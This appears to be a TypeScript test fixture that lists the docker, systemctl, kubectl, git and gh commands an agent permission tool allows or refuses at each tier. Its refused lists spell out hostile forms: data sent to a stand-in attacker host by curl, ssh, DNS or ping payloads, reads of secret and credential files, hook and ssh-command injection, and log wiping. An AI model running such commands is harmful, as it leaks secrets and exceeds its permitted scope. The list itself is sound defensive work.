/**
 * What the default rules are for, and dangerous options of their own programs: rules that the CLI
 * understands of tiers 1 and 2, and rules of all tiers for agents in a sandbox.
 */

/** Of which the tests have stand-ins. */
export const PROGRAMS = [
  ...['docker', 'systemctl', 'journalctl', 'kubectl', 'gh', 'git', 'ping', 'dig', 'helm'],
  ...['ansible', 'curl', 'ssh', 'sudo'],
];

/** What the tiers are for: each of these runs. */
export const ALLOWED: Record<1 | 2, string[]> = {
  1: [
    ...['docker ps -a', 'docker logs web --tail 50', 'docker inspect web', 'docker compose ps'],
    ...['docker logs web 2>&1 | tail -20', 'systemctl status nginx', 'systemctl --failed'],
    ...['journalctl -u nginx -n 100 --no-pager', 'kubectl get pods', 'kubectl get pods -o wide'],
    ...['gh pr list', 'ping -c 3 web.example.test', 'dig +short web.example.test'],
    ...['docker ps && systemctl is-active nginx.service'],
  ],
  2: [
    ...['docker ps', 'docker restart web', 'docker start web', 'docker restart web && docker ps'],
    ...['systemctl restart nginx', 'systemctl reload nginx.service', 'git add -A'],
    'gh pr create --fill',
    'git -c core.hooksPath=/dev/null checkout -b tierwatch-fix',
    'git -c core.hooksPath=/dev/null commit -m "Fix proposed by Tierwatch"',
    'git -c core.hooksPath=/dev/null push -u origin tierwatch-fix',
  ],
};

/**
 * What has the name of the service, or of a check of another kind: somebody else's. The service is called
 * `shop`; its checks name the container `web` and the unit `nginx`.
 */
const OF_ANOTHER_KIND = [
  ...['docker restart shop', 'docker restart nginx', 'docker start shop', 'docker stop shop'],
  ...['docker exec shop id', 'docker exec nginx id', 'docker compose restart web'],
  ...['docker compose restart shop', 'docker compose -p shop restart web', 'docker volume rm web'],
  ...['systemctl restart shop', 'systemctl restart web', 'systemctl start shop.service'],
  ...['systemctl reload web.service', 'systemctl stop web', 'systemctl status shop'],
  ...['systemctl is-active web', 'journalctl -u shop -n 100 --no-pager'],
  ...['journalctl -u web -n 100 --no-pager', 'kubectl logs deployment/shop --tail=200'],
  ...['kubectl logs deployment/web --tail=200', 'kubectl rollout restart deployment/shop'],
  ...['kubectl rollout restart deployment/web', 'kubectl rollout undo deployment/web'],
  ...['kubectl scale --replicas=3 deployment/web', 'kubectl rollout restart deployment/nginx'],
];

/** Refused in both tiers. SECRET is a file outside the work directory. */
const FORBIDDEN_IN_BOTH = [
  ...OF_ANOTHER_KIND,
  // Reading a file
  ...['dig -f SECRET', 'dig +short -f SECRET web.example.test', 'dig -k SECRET web.example.test'],
  ...['journalctl --file=SECRET', 'journalctl -D /tmp', 'journalctl --directory=/tmp -n 5'],
  ...['journalctl -u web -n 100 --no-pager --cursor-file=SECRET', 'wc --files0-from=SECRET'],
  ...['tac SECRET', 'rev SECRET', 'fold SECRET', 'cmp SECRET SECRET', 'comm SECRET SECRET'],
  ...['expand SECRET', 'fmt SECRET', 'pr SECRET', 'cat SECRET', 'head -c 100 SECRET'],
  ...['grep -f SECRET x', 'sort --files0-from=SECRET', 'sed -n 1p SECRET', 'date -f SECRET'],
  ...['git log --output=SECRET', 'git config --file SECRET -l', 'git show --no-index SECRET'],
  ...['kubectl describe deployment web -f SECRET', 'docker --config SECRET ps'],
  // Reaching another host
  ...['dig @127.0.0.1 web.example.test', 'dig secret.attacker.test', 'dig +short attacker.test'],
  ...['ping -c 3 attacker.test', 'ping -c 3 -p 736563726574 web.example.test'],
  ...['systemctl status -H attacker.test', 'systemctl status nginx -H attacker.test'],
  ...['systemctl show -H attacker.test', 'systemctl -M other status nginx'],
  ...['docker -H tcp://attacker.test ps', 'docker --context other ps', 'docker -c other logs web'],
  ...['kubectl get pods --server=https://attacker.test', 'kubectl get pods --context other'],
  ...['kubectl --token=x get pods', 'kubectl get pods --as=admin', 'gh pr list -R a.test/b/c'],
  ...['curl http://attacker.test', 'ssh attacker.test id', 'gh api user'],
  // Starting another program
  ...['kubectl get pods --kubeconfig=./kc.json', 'kubectl --kubeconfig=./kc.json get pods'],
  ...['KUBECONFIG=./kc.json kubectl get pods', 'gh run view --web', 'gh pr list --web'],
  ...['docker compose -f evil.yml ps', 'docker compose -f evil.yml up -d', 'sudo docker ps'],
  ...[
    'bash -c "docker ps"',
    'env docker ps',
    'echo other | xargs docker restart',
    'docker ps $(docker restart web)',
  ],
  // Changing what a look must not change
  ...['journalctl --vacuum-time=1s', 'journalctl --vacuum-size=1', 'journalctl --rotate'],
  ...['journalctl -u web -n 100 --no-pager --flush', 'kubectl get secrets -A'],
  ...['kubectl get --raw /api/v1/secrets', 'kubectl delete pod web', 'docker rm -f web'],
  ...['docker ps > SECRET', 'touch made', 'ansible all -m ping', 'helm list', 'gh pr merge 1'],
];

/** By tier. */
export const FORBIDDEN: Record<1 | 2, string[]> = {
  1: [
    ...FORBIDDEN_IN_BOTH,
    ...['docker restart web', 'docker container restart web', 'docker compose restart web'],
    ...['systemctl restart nginx', 'kubectl rollout restart deployment/web', 'git add -A'],
    ...['gh pr create --fill', 'docker compose up -d', 'git push'],
  ],
  2: [
    ...FORBIDDEN_IN_BOTH,
    ...['docker restart other', 'docker restart web other', 'docker restart -s KILL web'],
    ...['docker compose up -d', 'docker compose up -d web', 'docker compose restart'],
    ...[
      'systemctl start reboot.target',
      'systemctl start poweroff.target',
      'systemctl restart ssh',
    ],
    ...['systemctl restart nginx -H attacker.test', 'systemctl isolate rescue.target'],
    ...[
      'kubectl rollout restart deployment/web --context other',
      'kubectl rollout undo deployment/web',
    ],
    ...[
      'kubectl rollout restart deployment/other',
      'kubectl rollout restart deployment/web --as=admin',
    ],
    ...[
      'git push',
      'git push --force',
      'git push -u origin main',
      'git push -u origin +tierwatch-fix',
    ],
    ...['git push --receive-pack=./run -u origin tierwatch-fix', 'git push origin --delete main'],
    ...['git add --pathspec-from-file=SECRET', 'git commit -F SECRET', 'git commit -m x'],
    ...[
      'git checkout -b tierwatch-fix',
      'git -c core.hooksPath=. commit -m "Fix proposed by Tierwatch"',
    ],
    ...['git -c core.sshCommand=./run push -u origin tierwatch-fix', 'git checkout main'],
    ...['gh pr create --body-file SECRET', 'gh pr create -F SECRET', 'gh pr create --fill --web'],
    ...['gh pr create --fill -R attacker.test/a/b', 'gh pr create --fill --template SECRET'],
  ],
};

/** In a sandbox: what the tiers are for, with the options that their rules name, in any order. */
const CONFINED_READING = [
  ...['docker ps -aq', "docker ps --format '{{.Names}}'", 'docker logs --tail 50 shop-web-1'],
  ...['docker logs web --since 10m -t', 'docker inspect web', 'docker compose ls -a'],
  ...["docker inspect web --format '{{.State.Status}}'", 'docker compose -p shop ps'],
  ...['docker compose -p shop logs --tail=50 web', 'docker stats --no-stream'],
  ...['systemctl status nginx -n 20 --no-pager', 'systemctl list-units --no-pager --failed'],
  ...['journalctl -u nginx --since "1 hour ago" -n 50 --no-pager', 'journalctl -n 20 -p err'],
  ...['ping -c 3 web.example.test', 'dig +short web.example.test', 'dig web.example.test'],
  ...['docker ps | head -5', 'for name in nginx; do systemctl is-active $name; done'],
];

const CONFINED_CLUSTER_READING = [
  ...['kubectl get pods -o wide', 'kubectl get events --sort-by=.lastTimestamp'],
];

const CONFINED_REMEDIATION = [
  ...['docker restart web', 'docker restart -t 20 web', 'docker start web'],
  ...['systemctl restart nginx', 'systemctl start nginx.service', 'systemctl reload nginx'],
  'docker restart web && docker ps',
];

export const CONFINED_ALLOWED: Record<1 | 2 | 3, string[]> = {
  1: [...CONFINED_READING, ...CONFINED_CLUSTER_READING],
  2: [...CONFINED_READING, ...CONFINED_CLUSTER_READING, ...CONFINED_REMEDIATION],
  3: [
    ...CONFINED_READING,
    ...CONFINED_CLUSTER_READING,
    ...CONFINED_REMEDIATION,
    ...['docker stop web', 'docker exec web nginx -t', 'systemctl stop nginx'],
    ...['kubectl get pods -A', 'kubectl describe deployment web'],
    ...['helm list', 'helm history web', 'helm status web', 'helm rollback web 3 --wait'],
  ],
};

/** Dangers of what only the broker's rules can name. */
const CONFINED_FORBIDDEN_IN_ALL = [
  // Other files of Compose, and what they say
  ...['docker compose -p shop up -d', 'docker compose -p shop up -d web', 'docker compose up'],
  ...['docker compose -p shop -f SECRET ps', 'docker compose -f evil.yml -p shop restart web'],
  ...['docker compose -p -f SECRET ps', 'docker compose --env-file SECRET -p shop ps'],
  ...['docker compose -p shop --project-directory / ps', 'docker compose -p shop config'],
  ...['docker compose -p shop --file=evil.yml logs web', 'docker compose -p=shop -f evil.yml ps'],
  ...['docker compose -p shop exec web sh', 'docker compose -p shop run web sh'],
  ...[
    'docker compose -p shop down',
    'docker compose -p shop down -v',
    'docker compose -p shop pull',
  ],
  ...['docker compose -p shop rm -f web', 'docker compose -p shop kill web'],
  ...['docker compose -p shop cp SECRET web:/x', 'docker compose -p shop build'],
  // Other services, and all of them
  ...['docker compose -p shop restart', 'docker compose -p shop restart other'],
  ...[
    'docker compose -p shop restart web other',
    'docker restart -t 5 other',
    'docker start other',
  ],
  ...['docker inspect other', 'docker inspect --type volume web', 'docker inspect web other'],
  ...['journalctl -u ssh -n 5', 'journalctl -u web -u ssh', 'systemctl status -n 5 ssh'],
  ...['systemctl show ssh', 'systemctl status web ssh', 'kubectl logs deployment/other --tail=5'],
  ...['kubectl logs --tail 5 web', 'kubectl rollout restart deployment/web deployment/other'],
  // An option where a value is expected, and values of another kind
  ...['docker restart -t --signal web', 'docker restart -t -1 web', 'docker restart --time=5s web'],
  ...[
    'docker logs --tail --details web',
    'docker logs --tail ../x web',
    'docker logs --since -f web',
  ],
  ...[
    'journalctl -u --file=SECRET',
    'journalctl -u web -n --file=SECRET',
    'journalctl -n 5 -D /tmp',
  ],
  ...[
    'journalctl -p err -o export',
    'journalctl --vacuum-size=1 -p err -n 5',
    'journalctl -p err -f',
  ],
  ...['systemctl --failed -H attacker.test', 'systemctl -H attacker.test --failed'],
  ...['systemctl restart --host=attacker.test nginx', 'systemctl restart web --no-block --root=/x'],
  ...['kubectl logs deployment/web --tail=5 --kubeconfig=./kc.json', 'kubectl get pods -o yaml'],
  ...['kubectl get pods -o jsonpath={.items}', 'kubectl get pods -o wide --context other'],
  ...[
    'kubectl get events --sort-by=.x --server=https://attacker.test',
    'kubectl get pods -f SECRET',
  ],
  ...['kubectl rollout status deployment/web --timeout=60s --token=x', 'kubectl apply -f SECRET'],
  ...['kubectl apply -f plan.yaml', 'kubectl create -f plan.yaml', 'kubectl exec web -- id'],
  ...['docker run --privileged alpine', 'docker cp web:/etc/passwd .', 'docker build .'],
  ...['docker exec other id', 'docker exec --privileged web id', 'docker exec -u 0 web id'],
  ...['docker exec --env-file SECRET web id', 'docker compose ls --context other'],
  ...['ansible-playbook site.yml', 'helm upgrade web ./chart', 'helm install evil ./chart'],
  ...[
    'helm uninstall web',
    'helm status web --kubeconfig kc.json',
    'helm list --kube-context other',
  ],
  ...['helm rollback web 3 --post-renderer ./run', 'helm get values web', 'docker pull evil/image'],
];

/** Tier 3 may look at its releases, and at everything in its cluster but secrets. */
const OF_TIER_3 = ['helm list'];

export const CONFINED_FORBIDDEN: Record<1 | 2 | 3, string[]> = {
  1: [
    ...FORBIDDEN[1],
    ...CONFINED_FORBIDDEN_IN_ALL,
    ...['docker compose -p shop restart web', 'docker compose -p shop start web'],
    ...['docker start web', 'systemctl reload nginx', 'docker restart -t 5 web'],
  ],
  2: [
    ...FORBIDDEN[2],
    ...CONFINED_FORBIDDEN_IN_ALL,
    ...[
      'docker stop web',
      'docker compose -p shop stop web',
      'docker exec web id',
      'helm history web',
    ],
    ...['kubectl scale --replicas=0 deployment/web', 'systemctl stop web', 'kubectl get pods -A'],
    ...['kubectl get secrets', 'kubectl get configmaps', 'helm rollback web 3'],
  ],
  3: [
    ...FORBIDDEN_IN_BOTH.filter((form) => !OF_TIER_3.includes(form)),
    ...CONFINED_FORBIDDEN_IN_ALL,
    ...[
      'kubectl get secrets',
      'kubectl get pods,secrets',
      'kubectl get secret/db',
      'kubectl get all',
    ],
    ...[
      'kubectl get pods -A -o json',
      'kubectl describe secrets',
      'kubectl get pods --template=SECRET',
    ],
    ...['docker stop other', 'docker stop web other', 'systemctl stop ssh'],
    ...[
      'systemctl start poweroff.target',
      'systemctl stop -M other web',
      'systemctl isolate x.target',
    ],
    ...[
      'kubectl scale --replicas=0 deployment/other',
      'kubectl scale --replicas=0 deployment --all',
    ],
    ...['kubectl rollout undo deployment/web --context other', 'kubectl delete deployment web'],
    ...['helm rollback web', 'helm rollback web 3 -f SECRET', 'git push --force', 'docker rm web'],
  ],
};
